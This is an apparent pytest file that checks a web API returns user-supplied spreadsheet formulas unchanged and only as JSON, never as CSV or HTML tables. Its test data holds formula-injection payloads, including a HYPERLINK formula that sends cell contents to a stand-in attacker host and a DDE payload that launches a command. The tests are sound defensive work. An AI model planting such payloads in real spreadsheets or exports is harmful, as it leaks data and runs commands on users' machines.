"""Spreadsheet formulas are plain text: the API returns them unchanged, as JSON and never as CSV."""

from __future__ import annotations

import json

import pytest

from app.accounts.models import User
from tests.accounts.factory import bearer
from tests.attacks.conftest import Attacker

FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example.net?"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)"]
ME = "/api/v1/users/me"


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.req("P3", "A6")
def test_formula_is_returned_unchanged(attacker: Attacker, user: User, formula: str) -> None:
    client, headers = attacker.app.test_client(), bearer(attacker.app, user)

    profile = client.patch(ME, json={"display_name": formula}, headers=headers).get_json()
    exported = client.get(f"{ME}/data-export", headers=headers, buffered=True)

    assert profile["display_name"] == formula
    assert json.dumps(formula) in exported.text


@pytest.mark.req("P3")
def test_no_route_returns_a_table(attacker: Attacker) -> None:
    headers = {"Accept": "text/csv, application/vnd.ms-excel, text/html, */*;q=0.1"}
    for route in attacker.routes():
        if "/content" in route.rule.rule:  # returns the uploaded file unchanged
            continue
        response = attacker.open(route, headers=headers)

        if response.status_code != 204:
            assert response.content_type in ("application/json", "application/problem+json"), route
            json.loads(response.text)
